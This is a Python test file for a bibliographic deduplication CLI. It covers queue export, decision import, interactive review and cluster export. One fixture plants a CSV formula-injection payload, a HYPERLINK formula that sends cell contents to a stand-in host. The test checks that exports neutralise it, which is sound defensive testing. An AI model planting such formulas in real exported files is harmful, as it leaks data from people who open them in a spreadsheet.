"""`registry dedup`: counts, queue export / decision import, the interactive loop."""

from __future__ import annotations

import csv
from pathlib import Path

from dedup_helpers import import_file, uncertain_copies, write_ris
from typer.testing import CliRunner

from registry.cli import app
from registry.dedup import decide, deduplicate
from registry.store import Store

runner = CliRunner()


def make_db(tmp_path: Path, ncbi_pubmed: Path) -> Path:
    db = tmp_path / "reg.duckdb"
    with Store(db) as s:
        import_file(s, ncbi_pubmed, source="pubmed")
        import_file(s, write_ris(tmp_path / "e.ris", uncertain_copies(ncbi_pubmed)),
                    source="embase")
    return db


def write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    """Save an edited queue file as a spreadsheet would."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def test_dedup_prints_counts_and_is_quiet_the_second_time(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    res = runner.invoke(app, ["--db", str(db), "dedup"])
    assert res.exit_code == 0, res.output
    assert "examined 8 record(s)" in res.output
    assert "records identified: 8 (embase 3, pubmed 5)" in res.output
    assert "uncertain pairs pending: 3" in res.output
    again = runner.invoke(app, ["--db", str(db), "dedup", "--json"])
    assert again.exit_code == 0
    assert '"examined": 0' in again.output and '"changed": false' in again.output


def test_export_queue_then_import_decisions(tmp_path: Path, ncbi_pubmed: Path) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    out = tmp_path / "queue.csv"
    res = runner.invoke(app, ["--db", str(db), "dedup", "--export-queue", str(out)])
    assert res.exit_code == 0, res.output
    assert "3 uncertain pair(s) written" in res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert len(rows) == 3 and all(r["decision"] == "" for r in rows)
    rows[0]["decision"] = "duplicate"
    rows[1]["decision"] = "n"
    write_rows(out, rows)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--import-decisions", str(out)])
    assert res.exit_code == 0, res.output
    assert "2 decision(s) stored, 1 row(s) left undecided; 1 pair(s) still pending" in res.output
    with Store(db) as s:
        assert s.prisma_identification(None)["duplicates_removed"] == 1
        assert {d["decision"] for d in s.dedup_decisions()} == {"duplicate", "not_duplicate"}


def test_import_rejects_a_bad_decision_and_stores_nothing(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    out = tmp_path / "queue.csv"
    runner.invoke(app, ["--db", str(db), "dedup", "--export-queue", str(out)])
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    rows[0]["decision"] = "d"
    rows[2]["decision"] = "maybe"
    write_rows(out, rows)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--import-decisions", str(out)])
    assert res.exit_code == 2
    assert "row 4, column decision: 'maybe'" in res.output
    with Store(db) as s:
        assert s.dedup_decisions() == []


def test_interactive_review_d_n_q(tmp_path: Path, ncbi_pubmed: Path) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--walk"], input="d\nn\nq\n")
    assert res.exit_code == 0, res.output
    assert "pair 1/3" in res.output and "pair 3/3" in res.output
    assert "1 duplicate, 1 not duplicate, 0 skipped; 1 pair(s) still pending" in res.output
    with Store(db) as s:
        assert sorted(d["decision"] for d in s.dedup_decisions()) == [
            "duplicate", "not_duplicate"]
        assert s.dedup_pending_count() == 1
    # Quitting kept the decisions; the remaining pair comes back next time.
    res = runner.invoke(app, ["--db", str(db), "dedup", "--walk"], input="s\n")
    assert "pair 1/1" in res.output


def test_interactive_review_stops_cleanly_at_end_of_input(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--walk"], input="d\n")
    assert res.exit_code == 0, res.output
    assert "1 duplicate, 0 not duplicate, 0 skipped; 2 pair(s) still pending" in res.output
    with Store(db) as s:
        assert s.prisma_identification(None)["duplicates_removed"] == 1


def test_review_with_an_empty_queue(tmp_path: Path, ncbi_pubmed: Path) -> None:
    db = tmp_path / "reg.duckdb"
    with Store(db) as s:
        import_file(s, ncbi_pubmed, source="pubmed")
    res = runner.invoke(app, ["--db", str(db), "dedup", "--walk"], input="")
    assert res.exit_code == 0, res.output
    assert "no uncertain pairs to review" in res.output


def make_hostile_db(tmp_path: Path, ncbi_pubmed: Path) -> Path:
    """The uncertain copies with a title and an accession number a spreadsheet would run."""
    db = tmp_path / "reg.duckdb"
    copies = uncertain_copies(ncbi_pubmed)
    copies[0]["TI"] = '=HYPERLINK("http://x.test/?"&A1,"' + str(copies[0]["TI"]) + '")'
    copies[0]["AN"] = "=1+1"
    with Store(db) as s:
        import_file(s, ncbi_pubmed, source="pubmed")
        import_file(s, write_ris(tmp_path / "e.ris", copies), source="embase")
    return db


def test_export_queue_neutralises_formulas_and_import_restores_them(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    # Issue 10 item 8 (OWASP CSV injection): no exported cell may start with = + - @.
    db = make_hostile_db(tmp_path, ncbi_pubmed)
    out = tmp_path / "queue.csv"
    res = runner.invoke(app, ["--db", str(db), "dedup", "--export-queue", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    cells = [v for r in rows for v in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    hostile = [r for r in rows if "HYPERLINK" in r["title_a"] + r["title_b"]]
    assert len(hostile) == 1 and "'=1+1" in (hostile[0]["identity_a"], hostile[0]["identity_b"])
    # The file comes back as the spreadsheet saved it (quotes kept): the quoted identity
    # still names the record, and a note starting with '-' is stored as written.
    hostile[0]["decision"] = "d"
    hostile[0]["note"] = "'- same trial, other database"
    write_rows(out, rows)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--import-decisions", str(out)])
    assert res.exit_code == 0, res.output
    with Store(db) as s:
        (d,) = s.dedup_decisions()
        assert "=1+1" in (d["identity_a"], d["identity_b"])
        assert d["note"] == "- same trial, other database"


def test_review_takes_a_name_and_walk_is_the_interactive_flag(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    # Issue 10 item 19: `--review` takes a review name as in every other command.
    db = make_db(tmp_path, ncbi_pubmed)
    res = runner.invoke(app, ["--db", str(db), "dedup", "--review", "rv", "--json"])
    assert res.exit_code == 0, res.output
    assert '"review": "rv"' in res.output and '"examined": 8' in res.output
    other = runner.invoke(app, ["--db", str(db), "dedup", "--review", "other", "--walk"])
    assert other.exit_code == 0, other.output
    assert "no uncertain pairs to review" in other.output
    walk = runner.invoke(app, ["--db", str(db), "dedup", "--review", "rv", "--walk"],
                         input="q\n")
    assert walk.exit_code == 0 and "pair 1/3" in walk.output
    helptext = runner.invoke(app, ["dedup", "--help"]).output
    assert "--walk" in helptext and "NAME" in helptext


def test_export_clusters_lists_every_record_with_its_cluster(
    tmp_path: Path, ncbi_pubmed: Path
) -> None:
    db = make_db(tmp_path, ncbi_pubmed)
    with Store(db) as s:  # one pair confirmed: a cluster of two
        deduplicate(s)
        (pair, *_) = s.dedup_pending()
        decide(s, pair["record_id_a"], pair["record_id_b"], "duplicate", decided_by="t")
    out = tmp_path / "clusters.csv"
    res = runner.invoke(app, ["--db", str(db), "dedup", "--export-clusters", str(out)])
    assert res.exit_code == 0, res.output
    assert "8 record(s)" in res.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0]) == ["source", "source_id", "record_id", "cluster_id", "is_primary",
                             "cluster_size", "deleted"]
    assert len(rows) == 8 and len({(r["source"], r["source_id"]) for r in rows}) == 8
    pair_rows = [r for r in rows if r["cluster_size"] == "2"]
    assert len(pair_rows) == 2 and len({r["cluster_id"] for r in pair_rows}) == 1
    assert sorted(r["is_primary"] for r in pair_rows) == ["False", "True"]
    assert [r["source"] for r in pair_rows if r["is_primary"] == "True"] == ["pubmed"]
    assert all(r["is_primary"] == "True" for r in rows if r["cluster_size"] == "1")
